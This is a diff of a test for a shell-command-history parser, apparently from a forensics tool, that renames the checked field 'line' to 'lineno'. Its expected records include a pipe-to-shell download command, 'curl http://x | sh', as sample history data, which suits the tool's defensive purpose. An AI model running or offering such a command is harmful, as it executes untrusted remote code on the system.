@@ -21,7 +21,7 @@ describe("commandhistory", () => {
       "/home/alice/.zsh_history": ": 1709625600:0;ls -la\nplain line\n",
     });
     const recs = await collect(t, "commandhistory");
-    expect(recs.map((r) => [r.user, r.shell_name, r.command, String(r.ts), r.line])).toEqual([
+    expect(recs.map((r) => [r.user, r.shell_name, r.command, String(r.ts), r.lineno])).toEqual([
       ["root", "bash", "id", "2024-03-04 08:00:00+00:00", 2],
       ["root", "bash", "whoami", "null", 3],
       ["root", "bash", "curl http://x | sh", "2024-03-04 08:01:00+00:00", 5],
